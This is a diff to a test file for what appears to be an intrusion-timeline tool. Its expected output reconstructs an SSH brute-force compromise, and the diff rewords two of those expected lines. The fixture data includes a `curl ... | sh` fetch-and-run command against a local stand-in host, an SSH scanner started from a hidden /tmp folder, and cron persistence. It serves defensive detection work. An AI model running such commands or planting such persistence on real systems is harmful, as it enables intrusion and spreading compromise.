@@ -329,9 +329,9 @@ describe('the story', () => {
     const story = inc.story.map((l) => [l.time?.slice(11, 19) ?? null, l.kind, l.tactic, l.text]);
     expect(story).toEqual([
       ['22:20:00', 'event', 'credential-access', '127.0.0.3 failed 30 ssh logins until 2026-11-22 22:26:05'],
-      ['22:26:09', 'event', 'initial-access', 'deploy logged in from 127.0.0.3 after 30 failed passwords (password)'],
+      ['22:26:09', 'event', 'initial-access', 'deploy logged in from 127.0.0.3 after 30 failed passwords'],
       ['22:26:40', 'event', 'execution', 'the same session ran `curl -s http://127.0.0.9/x | sh`'],
-      ['22:26:45', 'event', 'discovery', 'pscan2 (pid 5617) started from /tmp/.. /: a known tool (SSH scanner); connects to 31 hosts on ssh ports'],
+      ['22:26:45', 'event', 'discovery', 'pscan2 (pid 5617) started from /tmp/.. /: a known tool: SSH scanner; connects to 31 hosts on ssh ports'],
       ['22:27:30', 'event', 'persistence', 'cron line /var/spool/cron/crontabs/deploy:1 runs `/tmp/.. /pscan2` every minute (the file was last changed at this time)'],
       ['22:27:30', 'gap', null, 'no history of deploy covers 22:27–22:50 (23 minutes)'],
       ['22:50:12', 'event', null, "deploy's session from 127.0.0.3 closed"],
